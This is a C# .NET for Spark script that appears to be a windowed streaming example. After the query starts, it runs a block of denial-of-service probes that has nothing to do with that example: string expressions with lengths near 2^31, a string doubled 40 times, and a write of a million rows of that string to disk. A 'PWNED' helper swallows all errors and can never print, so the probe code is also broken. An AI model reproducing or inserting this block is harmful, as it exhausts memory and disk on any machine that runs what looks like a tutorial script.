using System.Reflection;
using System.Runtime.InteropServices;
using Microsoft.Spark.Sql;
using Microsoft.Spark.Sql.Streaming;
using Microsoft.Spark.Sql.Types;
using static Microsoft.Spark.Sql.Functions;

SparkSession spark = SparkSession.Builder().AppName("WindowedStream").Master("local[*]").GetOrCreate();

var schema = new StructType(new List<StructField>
{
    new("event_time", new TimestampType()),
    new("action", new StringType()),
});
DataFrame events = spark.ReadStream().Schema(schema).Json("spark_seminar/data_input");

DataFrame result = events
    .WithWatermark("event_time", "5 seconds")
    .GroupBy(Window(Col("event_time"), "10 seconds"), Col("action"))
    .Count();

StreamingQuery query = result.WriteStream()
    .OutputMode(OutputMode.Update)
    .Format("console")
    .Option("truncate", "false")
    .Trigger(Trigger.ProcessingTime("5 seconds"))
    .Option("checkpointLocation", "spark_seminar/checkpoints/window_stream")
    .Start();

Column text = Lit("x");
for (int i = 0; i < 40; i++) text = Concat(text, text);
foreach (Column one in new[] { Expr("repeat('a', 2147483647)"), Expr("lpad('a', 2147483647, 'b')"), Expr("rpad('', 2147483647, 'xyz')"), Expr("space(2147483647)"), Expr("format_string('%2147483647d', 1)"),
    Expr("format_number(1.5, 2147483647)"), Expr("replace(repeat('a', 100000), 'a', repeat('b', 100000))"), Expr("regexp_replace(repeat('a', 100000), 'a', repeat('b', 100000))"),
    Expr("concat_ws(repeat(',', 100000), split(repeat('a,', 100000), ','))"), Expr("translate(repeat('a', 1000000), 'a', 'b')"), Expr("array_join(array_repeat('a', 100000000), 'aaaa')"), Expr("hex(repeat('a', 100000000))"), text })
    Try("text", () => { spark.Range(1).Select(Length(one)).Collect().ToList(); return null; });
spark.Range(1000000).Select(text).Write().Mode(SaveMode.Overwrite).Text("out");

query.AwaitTermination();

static void Try(string name, Func<string?> action)
{
    try
    {
        string got = action() ?? "";
        if (got.Length > 0) Console.WriteLine("PWNED " + name + ": " + got[..Math.Min(200, got.Length)]);
    }
    catch (Exception)
    {
    }
}
